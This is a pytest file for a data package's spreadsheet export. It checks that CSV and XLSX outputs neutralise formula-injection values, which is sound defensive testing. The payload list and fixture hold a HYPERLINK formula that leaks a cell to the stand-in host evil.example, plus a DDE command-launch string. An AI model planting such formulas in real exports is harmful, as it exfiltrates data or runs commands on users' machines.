"""Issue 16, D9: a site name or label starting with ``=`` must never become a live formula in a written
XLSX or CSV (report tables, ``registry export --format excel``, ``registry validate --output``)."""
from __future__ import annotations

import csv

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from oligomet._spreadsheet import csv_safe, csv_safe_frame
from oligomet.report.tables import ReportTable, write_csv, write_xlsx

LEAK = '=HYPERLINK("http://evil.example/?leak="&B3, "click for details")'
PAYLOADS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _table() -> ReportTable:
    data = pd.DataFrame({"site": PAYLOADS, "n": range(len(PAYLOADS)), "coef": [-0.5, 0.25, -1.0, 2.0, -3.5, 0.0],
                         "group": pd.Categorical(["=A1"] * 3 + ["safe"] * 3)},
                        index=pd.Index([f"=term{i}" for i in range(len(PAYLOADS))], name="@term"))
    return ReportTable("by_site", "=1+1 caption", data, note="-note that starts with a minus")


def _formula_cells(path) -> list:
    wb = load_workbook(path)                 # formulas are kept as formulas (data_only=False)
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _values(path) -> set:
    wb = load_workbook(path)
    return {c.value for ws in wb for row in ws.iter_rows() for c in row if c.value is not None}


def test_csv_safe_neutralises_formula_starts_only():
    assert [csv_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS[:-1]] + ["'\n=1+1"]
    # a carriage return inside a label would end the row in a spreadsheet; as a line feed the field is quoted
    assert csv_safe("Site A\r=1+1") == "Site A\n=1+1"
    for harmless in ("Site A", "'quoted", "1=1", "", "a-b"):
        assert csv_safe(harmless) == harmless
    for number in (-0.5, -3, 0.0):
        assert csv_safe(number) == number


def test_report_xlsx_stores_every_string_as_text(tmp_path):
    path = write_xlsx([_table()], tmp_path / "tables.xlsx")
    assert _formula_cells(path) == []
    # nothing lost or altered: the payloads read back as the exact strings, numbers stay numbers
    values = _values(path)
    assert set(PAYLOADS) <= values
    assert {"=term0", "@term", "=1+1 caption", "=A1", "-note that starts with a minus", -0.5, -3.5} <= values
    ws = load_workbook(path)["by_site"]
    leak = next(c for row in ws.iter_rows() for c in row if c.value == LEAK)
    assert leak.data_type == "s" and leak.quotePrefix     # stays text when edited in Excel


def test_report_csv_prefixes_formula_text_and_keeps_numbers(tmp_path):
    path = write_csv(_table(), tmp_path)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'@term", "site", "n", "coef", "group"]
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c) for c in cells)
    body = {r[0]: r for r in rows[1:]}
    assert body["'=term0"][1] == "'" + LEAK
    assert body["'=term0"][3] == "-0.5" and body["'=term4"][3] == "-3.5"    # numbers untouched
    assert body["'=term0"][4] == "'=A1"
    assert body["'=term5"][1] == "'\n=1+1" and len(rows) == 1 + len(PAYLOADS)   # no row broken by the CR


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_csv_safe_frame_leaves_numeric_and_date_columns_alone():
    frame = pd.DataFrame({"x": [-1.5, 2.0], "d": pd.to_datetime(["2020-01-01", "2021-02-03"]),
                          "s": ["-1", "ok"], "b": [True, False]})
    out = csv_safe_frame(frame)
    pd.testing.assert_series_equal(out["x"], frame["x"])
    pd.testing.assert_series_equal(out["d"], frame["d"])
    pd.testing.assert_series_equal(out["b"], frame["b"])
    assert list(out["s"]) == ["'-1", "ok"]
    assert list(frame["s"]) == ["-1", "ok"]          # the caller's frame is not modified


@pytest.fixture(scope="module")
def injected_registry():
    from oligomet.datasets import synthetic_registry

    tables = synthetic_registry(20, seed=9)
    tables["patients"]["site"] = [LEAK if i % 2 else "=1+1" for i in range(len(tables["patients"]))]
    tables["complications"]["description"] = "@SUM(1+9)*cmd|' /C calc'!A0"
    return tables


def test_registry_excel_export_stores_text_and_round_trips(tmp_path, injected_registry):
    from oligomet.registry import read_registry, write_registry

    path = write_registry(injected_registry, tmp_path / "export.xlsx", format="excel")
    assert _formula_cells(path) == []
    assert {LEAK, "=1+1", "@SUM(1+9)*cmd|' /C calc'!A0"} <= _values(path)
    # re-imported, the values are the ones exported (text, not the result of a formula, not quoted)
    tables, _ = read_registry(path)
    assert sorted(set(tables["patients"]["site"])) == sorted({LEAK, "=1+1"})
    assert set(tables["complications"]["description"]) == {"@SUM(1+9)*cmd|' /C calc'!A0"}


def test_registry_csv_export_keeps_values_exact_for_reimport(tmp_path, injected_registry):
    # the interchange CSV is data read back by `registry import`, so it is not quote-prefixed
    from oligomet.registry import read_registry, write_registry

    folder = write_registry(injected_registry, tmp_path / "csv", format="csv")
    tables, _ = read_registry(folder)
    assert sorted(set(tables["patients"]["site"])) == sorted({LEAK, "=1+1"})


def test_registry_validate_output_csv_neutralises_quoted_values(tmp_path, injected_registry):
    from oligomet.cli import app
    from oligomet.registry import write_registry

    folder = write_registry(injected_registry, tmp_path / "csv", format="csv")
    patients = pd.read_csv(folder / "patients.csv", dtype=str, keep_default_na=False)
    patients.loc[0, "sex"] = "=2+5"                  # an invalid code: the problem list quotes the value
    patients.to_csv(folder / "patients.csv", index=False)
    out = tmp_path / "problems.csv"
    CliRunner().invoke(app, ["registry", "validate", str(folder), "--output", str(out), "--plain"])
    text = out.read_text(encoding="utf-8")
    assert "=2+5" in text
    with open(out, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _is_number(c))]
